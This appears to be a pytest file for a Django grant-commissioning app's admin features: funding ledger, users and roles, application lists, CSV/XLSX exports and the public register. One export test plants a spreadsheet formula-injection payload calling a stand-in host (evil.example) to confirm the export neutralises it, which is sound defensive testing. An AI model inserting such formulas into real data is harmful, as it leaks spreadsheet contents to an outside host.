"""In-app administration (issue 17): funding streams whose totals go through the ledger, organisations, the
partnership's members, users and roles, the all-applications list and its CSV/XLSX exports (formula-safe), and the
public register's search."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.db.models import Sum

from svduty.web.accounts.permissions import lead_of
from svduty.web.commissioning.models import Application
from svduty.web.funding import ledger
from svduty.web.funding.models import FundingStream
from svduty.web.partnership.models import Organisation, Partnership

from .conftest import client_for

pytestmark = pytest.mark.django_db


def test_stream_total_cannot_go_below_its_budgets(world):
    stream = world.stream
    budgets = stream.budgets.aggregate(s=Sum("amount_pence"))["s"]
    assert budgets > 0
    with pytest.raises(ledger.OverCommitment, match="yearly budgets add up to"):
        ledger.set_total(stream, budgets - 1)
    page = client_for("officer").post(
        f"/manage/funding-streams/{stream.pk}/",
        {"name": stream.name, "funder": stream.funder_id, "total": f"{(budgets - 100) / 100:.2f}", "conditions": ""},
    )
    assert page.status_code == 200 and b"yearly budgets add up to" in page.content
    stream.refresh_from_db()
    assert stream.total_pence >= budgets
    ok = client_for("officer").post(
        f"/manage/funding-streams/{stream.pk}/",
        {
            "name": stream.name + " (renamed)",
            "funder": stream.funder_id,
            "total": f"{budgets / 100:.2f}",
            "conditions": "x",
        },
    )
    assert ok.status_code == 302
    stream.refresh_from_db()
    assert stream.total_pence == budgets and stream.name.endswith("(renamed)")
    assert stream.history.count() >= 2


def test_new_stream_then_budget_through_ledger(world):
    funder = Organisation.objects.first()
    response = client_for("admin").post(
        "/manage/funding-streams/new/", {"name": "Home Office top-up", "funder": funder.pk, "total": "£50,000"}
    )
    stream = FundingStream.objects.get(name="Home Office top-up")
    assert response.status_code == 302 and response["Location"] == f"/funding/{stream.pk}/"
    assert stream.total_pence == 5_000_000
    with pytest.raises(ledger.OverCommitment):
        ledger.set_budget(stream, "2026-27", 5_000_001)


def test_organisation_duplicate_number_is_a_form_error(world):
    existing = Organisation.objects.exclude(charity_number="").first()
    page = client_for("officer").post(
        "/manage/organisations/new/",
        {"name": "Another charity", "kind": existing.kind, "charity_number": existing.charity_number},
    )
    assert page.status_code == 200 and b"govuk-error-summary" in page.content
    ok = client_for("officer").post("/manage/organisations/new/", {"name": "New Youth Trust", "kind": existing.kind})
    assert ok.status_code == 302 and Organisation.objects.filter(name="New Youth Trust").exists()


def test_partnership_members_edit_keeps_history(world):
    partnership = Partnership.objects.get()
    members = list(partnership.members.values_list("pk", flat=True))
    new = Organisation.objects.exclude(pk__in=members).first()
    before = partnership.history.count()
    response = client_for("officer").post(
        "/manage/partnership/",
        {
            "name": partnership.name,
            "area": partnership.area,
            "lead_convenor": partnership.lead_convenor_id,
            "strategy_period": partnership.strategy_period,
            "members": [*members, new.pk],
        },
    )
    assert response.status_code == 302
    assert new in partnership.members.all()
    assert partnership.history.count() > before


def test_user_role_and_lead_changes(world):
    User = get_user_model()
    provider2 = User.objects.get(username="provider2")
    org = provider2.profile.organisation
    officer = client_for("officer")
    data = {
        "first_name": "Pat",
        "last_name": "Jones",
        "email": "pat@example.org",
        "role": "provider",
        "organisation": org.pk,
        "job_title": "Director",
        "is_lead": "on",
        "is_active": "on",
    }
    before_email = provider2.email
    assert officer.post(f"/manage/users/{provider2.pk}/", data).status_code == 302
    provider2.refresh_from_db()
    # an officer cannot redirect an account's password-reset e-mails to another address
    assert provider2.email == before_email
    client_for("admin").post(f"/manage/users/{provider2.pk}/", data)
    provider2.refresh_from_db()
    assert provider2.email == "pat@example.org"
    assert provider2.profile.job_title == "Director" and lead_of(org) == provider2
    assert b"Changed: job_title" in officer.get(f"/manage/users/{provider2.pk}/").content
    # an officer cannot make an administrator
    refused = officer.post(f"/manage/users/{provider2.pk}/", {**data, "role": "admin"})
    assert refused.status_code == 200 and provider2.profile.role == "provider"
    # deactivating is recorded in the profile's history and the account cannot sign in
    data.pop("is_active")
    officer.post(f"/manage/users/{provider2.pk}/", data)
    provider2.refresh_from_db()
    assert not provider2.is_active
    assert provider2.profile.history.count() >= 2
    # nobody edits their own role here
    officer_user = User.objects.get(username="officer")
    assert officer.get(f"/manage/users/{officer_user.pk}/").status_code == 403


def test_user_list_filters(world):
    page = client_for("admin").get("/manage/users/?role=assessor")
    names = {u.username for u, _r, _e in page.context["rows"]}
    assert "assessor" in names and "provider" not in names
    page = client_for("admin").get("/manage/users/?q=provider2")
    assert {u.username for u, _r, _e in page.context["rows"]} == {"provider2"}


def test_applications_list_filters_search_and_drafts(world):
    officer = client_for("officer")
    page = officer.get("/manage/applications/")
    shown = {a.pk for a in page.context["page"]}
    assert world.draft.pk not in shown  # a draft is the provider's until submitted
    assert world.submitted_fresh.pk in shown
    assert world.draft.pk in {a.pk for a in client_for("admin").get("/manage/applications/").context["page"]}
    page = officer.get(f"/manage/applications/?round={world.open_round.pk}&status=submitted")
    assert {a.pk for a in page.context["page"]} == set(
        Application.objects.filter(round=world.open_round, status="submitted").values_list("pk", flat=True)
    )
    page = officer.get("/manage/applications/?q=parent+workshops")
    assert [a.pk for a in page.context["page"]] == [world.submitted_fresh.pk]
    page = officer.get(f"/manage/applications/?q={world.submitted_fresh.reference}")
    assert [a.pk for a in page.context["page"]] == [world.submitted_fresh.pk]
    org = world.awarded_app.organisation
    page = officer.get(f"/manage/applications/?organisation={org.pk}")
    assert {a.organisation_id for a in page.context["page"]} == {org.pk}


def test_exports_neutralise_formulas_and_keep_numbers(world):
    from openpyxl import load_workbook

    Application.objects.filter(pk=world.submitted_fresh.pk).update(title='=HYPERLINK("http://evil.example/?"&A1,"x")')
    officer = client_for("officer")
    response = officer.get("/manage/applications/export.csv?kind=panel&q=evil.example")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    header, (row,) = rows[0], rows[1:]
    assert row[header.index("Intervention")].startswith("'=HYPERLINK")
    assert row[header.index("Requested (£)")] == "20000.00"  # £20,000 budget line from the fixture
    xlsx = officer.get("/manage/applications/export.xlsx?kind=panel&q=evil.example")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    values = [[c.value for c in r] for r in sheet.iter_rows()]
    col = values[0].index("Intervention")
    assert values[1][col].startswith("'=HYPERLINK") and sheet.cell(row=2, column=col + 1).data_type == "s"
    amount = values[1][values[0].index("Requested (£)")]
    assert float(amount) == 20000.0 and not isinstance(amount, str)


def test_finance_export_matches_the_awards(world):
    response = client_for("admin").get(f"/manage/applications/export.csv?kind=finance&round={world.closed_round.pk}")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    awarded = [r for r in rows if r["Awarded (£)"]]
    # the demo round's 8 awards add up to exactly £467,000 (docs/web.md)
    assert len(awarded) == 8 and all(r["Data"] == "DEMO DATA" for r in rows)
    assert sum(float(r["Awarded (£)"]) for r in awarded) == 467_000.0
    row = next(r for r in rows if r["Reference"] == world.awarded_app.reference)
    committed = sum(float(v) for k, v in row.items() if k.startswith("Committed ") and v)
    assert committed == world.awarded_app.award.amount_pence / 100
    assert row["Decision record"] == world.awarded_app.award.decision_record.reference


def test_public_register_search_and_json_unchanged(world):
    from svduty.web.decisions.models import DecisionRecord

    public = client_for("public")
    page = public.get("/public/decisions/?q=DN50-24")
    assert [r.reference for r in page.context["records"]] == ["DN50-24"]
    title_word = DecisionRecord.objects.get(reference="DN50-24").title.split()[0]
    assert "DN50-24" in {r.reference for r in public.get(f"/public/decisions/?q={title_word}").context["records"]}
    assert public.get("/public/decisions/?q=zzzz-no-such").context["records"] == []
    grants = public.get(f"/public/grants/?q={world.awarded_app.organisation.name.split()[0]}")
    names = {a.application.organisation.name for g in grants.context["by_round"] for a in g["awards"]}
    assert world.awarded_app.organisation.name in names
    assert public.get("/public/360giving.json").status_code == 200
